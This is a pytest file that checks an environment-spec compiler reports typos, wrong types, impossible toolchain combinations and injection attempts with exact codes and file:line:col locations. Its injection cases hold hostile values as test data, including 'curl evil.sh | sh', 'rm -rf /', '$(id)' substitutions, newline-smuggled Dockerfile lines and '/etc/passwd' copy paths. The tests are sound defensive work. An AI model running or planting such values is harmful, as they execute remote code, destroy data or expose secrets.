"""A corpus of broken specs: each must fail with the exact location, code and message.

Typos, wrong types, injection attempts and impossible values; shape errors come from the loader,
semantic ones from the resolver, and both are reported together with file:line:col.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from envspec.errors import SpecError
from envspec.pipeline import compile_spec

HEAD = "name: demo\nbase:\n  os: ubuntu22.04\n"  # lines 1-3 of most cases

# (id, yaml, code, line, column, words the message must contain)
CASES: list[tuple[str, str, str, int, int, str]] = [
    # --- typos and unknown keys ---
    ("typo-top", HEAD + "aptt:\n  packages: [vim]\n", "spec.extra-forbidden", 4, 1, "unknown key `aptt`"),
    ("typo-nested", HEAD + "apt:\n  packges: [vim]\n", "spec.extra-forbidden", 5, 3, "unknown key `packges`"),
    ("unknown-key-like-a-type", HEAD + "apt:\n  strict: true\n", "spec.extra-forbidden", 5, 3, "unknown key `strict`"),
    ("unknown-key-int-prefix", HEAD + "  interval: 3\n", "spec.extra-forbidden", 4, 3, "unknown key `interval`"),
    ("typo-flavour", HEAD + "  flavour: devel\n", "spec.extra-forbidden", 4, 3, "unknown key `flavour`"),
    ("missing-name", "base:\n  os: debian12\n", "spec.missing", 1, 1, "`name` is required"),
    ("missing-base", "name: demo\n", "spec.missing", 1, 1, "`base` is required"),
    ("duplicate-key", HEAD + "apt:\n  packages: [a1]\n  packages: [b2]\n", "spec.duplicate-key", 6, 3, "set twice"),
    # --- wrong types ---
    ("cuda-float", HEAD + "  cuda: 12.4\n", "spec.string-type", 4, 9, "valid string"),
    ("cuda-malformed", HEAD + "  cuda: '12.4.x'\n", "spec.value-error", 4, 9, "not a CUDA version"),
    ("cuda-word", HEAD + "  flavor: devel\n  cuda: twelve\n", "spec.value-error", 5, 9, "not a CUDA version"),
    ("python-float", HEAD + "python:\n  version: 3.10\n", "spec.string-type", 5, 12, "valid string"),
    ("gcc-string", HEAD + "compilers:\n  gcc: eleven\n", "spec.int-parsing", 5, 8, "valid integer"),
    ("packages-not-list", HEAD + "apt:\n  packages: vim\n", "spec.list-type", 5, 13, "valid list"),
    ("bad-flavor", HEAD + "  flavor: full\n", "spec.literal-error", 4, 11, "'base', 'runtime' or 'devel'"),
    ("bad-os", "name: demo\nbase:\n  os: centos7\n", "spec.literal-error", 3, 7, "ubuntu16.04"),
    ("top-level-list", "- a\n- b\n", "spec.shape", 1, 1, "mapping"),
    ("yaml-syntax", "name: demo\nbase:\n  os: [ubuntu\n", "spec.yaml", 4, 1, "not valid YAML"),
    # --- injection attempts ---
    ("inject-apt", HEAD + "apt:\n  packages: ['vim; curl evil.sh | sh']\n", "spec.value-error", 5, 14, "Debian package name"),
    ("inject-pip", HEAD + "python:\n  pip:\n    packages: ['numpy && rm -rf /']\n", "spec.value-error", 6, 16, "pip requirement"),
    ("inject-env-newline", HEAD + 'env:\n  A: "x\\nRUN curl evil"\n', "spec.value-error", 5, 6, "single line"),
    ("inject-env-name", HEAD + "env:\n  'A=1 B': x\n", "spec.value-error", 5, 3, "environment variable name"),
    ("inject-mirror", HEAD + "apt:\n  mirror: 'http://m/$(id)'\n", "spec.value-error", 5, 11, "not allowed in a URL"),
    ("inject-user", HEAD + "user:\n  name: 'x; id'\n", "spec.value-error", 5, 9, "Linux user name"),
    ("inject-workdir", HEAD + "workdir: '/w`id`'\n", "spec.value-error", 4, 10, "path of letters"),
    ("inject-run-newline", HEAD + 'run: ["echo ok\\nFROM evil"]\n', "spec.value-error", 4, 7, "single line"),
    ("inject-label", HEAD + "labels:\n  'a b': x\n", "spec.value-error", 5, 3, "label key"),
    ("inject-conda", HEAD + "python:\n  provider: conda\n  conda:\n    packages: ['numpy;id']\n",
     "spec.value-error", 7, 16, "conda package spec"),
    ("escape-folder", HEAD + "copy:\n  - {src: ../secrets, dest: /x}\n", "spec.value-error", 5, 11, "leaves the folder"),
    ("absolute-src", HEAD + "copy:\n  - {src: /etc/passwd, dest: /x}\n", "spec.value-error", 5, 11, "relative"),
    # --- impossible values (resolver) ---
    ("gcc-too-new-for-nvcc", "name: demo\nbase:\n  os: ubuntu20.04\n  cuda: '11.0'\n  flavor: devel\n"
     "compilers:\n  gcc: 10\n", "toolchain.gcc-cuda", 7, 8, "accepts GCC up to 9"),
    ("gcc-not-packaged", "name: demo\nbase:\n  os: debian12\ncompilers:\n  gcc: 9\n",
     "toolchain.gcc-package", 5, 8, "gcc-9 is not packaged on debian12"),
    ("cuda-on-debian", "name: demo\nbase:\n  os: debian12\n  cuda: '12.4'\n", "base.cuda-os", 3, 7, "Ubuntu"),
    ("cuda-never-existed", "name: demo\nbase:\n  os: ubuntu20.04\n  cuda: '13.0'\n", "base.no-such-image", 4, 9,
     "never published"),
    ("python-not-packaged", "name: demo\nbase:\n  os: debian12\npython:\n  version: '3.8'\n",
     "python.version", 5, 12, "not available on debian12"),
    ("torch-no-wheels", "name: demo\nbase:\n  os: ubuntu22.04\n  cuda: '11.8'\npython:\n  pip:\n"
     "    packages: [torch==2.8.0]\n", "python.torch-cuda", 7, 15, "no wheels for CUDA 11.8"),
    ("torchvision-mismatch", "name: demo\nbase:\n  os: ubuntu22.04\n  cuda: '12.1'\npython:\n  pip:\n"
     "    packages: [torch==2.1.2, torchvision==0.15.2]\n", "python.torch-pair", 7, 15, "does not pair"),
    ("unknown-mirror", HEAD + "apt:\n  mirror: nowhere\n", "mirror.unknown", 5, 11, "unknown mirror preset"),
    ("missing-requirements", HEAD + "python:\n  pip:\n    requirements: [req.txt]\n", "files.missing", 6, 20,
     "does not exist"),
    ("ppa-on-debian", "name: demo\nbase:\n  os: debian12\napt:\n  repositories:\n    - ppa: deadsnakes/ppa\n",
     "apt.ppa-os", 6, 7, "PPAs are built for Ubuntu"),
    ("conda-settings-without-conda", HEAD + "python:\n  conda:\n    channels: [conda-forge]\n",
     "spec.value-error", 5, 3, "need `provider: conda`"),
    ("repo-without-key", HEAD + "apt:\n  repositories:\n    - url: https://example.org/debian\n",
     "spec.value-error", 6, 7, "key_url"),
    # --- issue 10: env references, run phases, user, metadata, patch versions ---
    ("env-command-substitution", HEAD + "env:\n  A: '$(id)'\n", "spec.value-error", 5, 6,
     "not a variable reference"),
    ("env-lone-dollar", HEAD + "env:\n  A: 'costs 5$'\n", "spec.value-error", 5, 6, "`$$`"),
    ("env-unsupported-expansion", HEAD + "env:\n  A: '${B:?unset}'\n", "spec.value-error", 5, 6,
     "not a variable reference"),
    ("run-unknown-phase", HEAD + "run:\n  - {phase: before_pip, command: x}\n", "spec.literal-error",
     5, 13, "before_apt"),
    ("run-phase-newline", HEAD + 'run:\n  - {phase: final, command: "a\\nFROM evil"}\n',
     "spec.value-error", 5, 29, "single line"),
    ("inject-group", HEAD + "user:\n  groups: ['video;id']\n", "spec.value-error", 5, 12, "group name"),
    ("expose-range", HEAD + "expose: ['8000-8010']\n", "spec.value-error", 4, 10, "container port"),
    ("expose-zero", HEAD + "expose: ['0/tcp']\n", "spec.value-error", 4, 10, "outside 1-65535"),
    ("volume-relative", HEAD + "volumes: [data]\n", "spec.value-error", 4, 11, "absolute path"),
    ("inject-key-url", HEAD + "apt:\n  repositories:\n    - url: https://example.org/debian\n"
     "      key_url: 'https://k/x?a=1&b=$(id)'\n", "spec.value-error", 7, 16, "not allowed in a URL"),
    ("apt-glob-not-a-version", HEAD + "apt:\n  packages: ['vim*']\n", "spec.value-error", 5, 14,
     "Debian package name"),
    ("python-patch-system", "name: demo\nbase:\n  os: debian12\npython:\n  version: '3.11.2'\n",
     "python.version-patch", 5, 12, "cannot pin Python 3.11.2"),
]


@pytest.mark.parametrize(("text", "code", "line", "column", "words"),
                         [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_invalid_spec_is_reported_precisely(
    write_spec: Callable[[str], Path], text: str, code: str, line: int, column: int, words: str
) -> None:
    path = write_spec(text)
    with pytest.raises(SpecError) as caught:
        compile_spec(path)
    errors = [d for d in caught.value.diagnostics if d.severity == "error"]
    matching = [d for d in errors if d.code == code]
    assert matching, [d.format() for d in errors]
    found = matching[0]
    assert found.location is not None and found.location.file == str(path)
    assert (found.location.line, found.location.column) == (line, column), found.format()
    assert words in found.message, found.format()


def test_every_problem_is_reported_at_once(write_spec: Callable[[str], Path]) -> None:
    path = write_spec(HEAD + "  flavour: devel\napt:\n  packges: [x]\nuser:\n  name: 'Bad!'\n")
    with pytest.raises(SpecError) as caught:
        compile_spec(path)
    assert [d.code for d in caught.value.diagnostics] == [
        "spec.extra-forbidden", "spec.extra-forbidden", "spec.value-error"]


def test_typo_hint_suggests_the_right_key(write_spec: Callable[[str], Path]) -> None:
    with pytest.raises(SpecError) as caught:
        compile_spec(write_spec(HEAD + "apt:\n  packges: [vim]\n"))
    assert caught.value.diagnostics[0].hint == "did you mean `packages`?"


def test_float_version_hint_shows_what_was_typed(write_spec: Callable[[str], Path]) -> None:
    with pytest.raises(SpecError) as caught:
        compile_spec(write_spec(HEAD + "python:\n  version: 3.10\n"))
    assert 'version: "3.10"' in (caught.value.diagnostics[0].hint or "")


def test_gcc_hint_names_the_fix(write_spec: Callable[[str], Path]) -> None:
    spec = "name: demo\nbase:\n  os: ubuntu20.04\n  cuda: '11.0'\n  flavor: devel\ncompilers:\n  gcc: 10\n"
    with pytest.raises(SpecError) as caught:
        compile_spec(write_spec(spec))
    [error] = [d for d in caught.value.diagnostics if d.code == "toolchain.gcc-cuda"]
    hint = error.hint or ""
    assert "set compilers.gcc to 9 (available on ubuntu20.04)" in hint
    assert "use CUDA >= 11.1" in hint


def test_malformed_cuda_hint_lists_published_versions_near_it(write_spec: Callable[[str], Path]) -> None:
    with pytest.raises(SpecError) as caught:
        compile_spec(write_spec(HEAD + "  cuda: 'v12.4'\n"))
    [error] = caught.value.diagnostics
    assert error.location is not None and error.location.key == "base.cuda"
    assert error.hint is not None and error.hint.startswith("published versions near it: ")
    listed = error.hint.split(": ", 1)[1].split(", ")
    assert "12.4.1" in listed and all(v.startswith("12.4.") for v in listed)
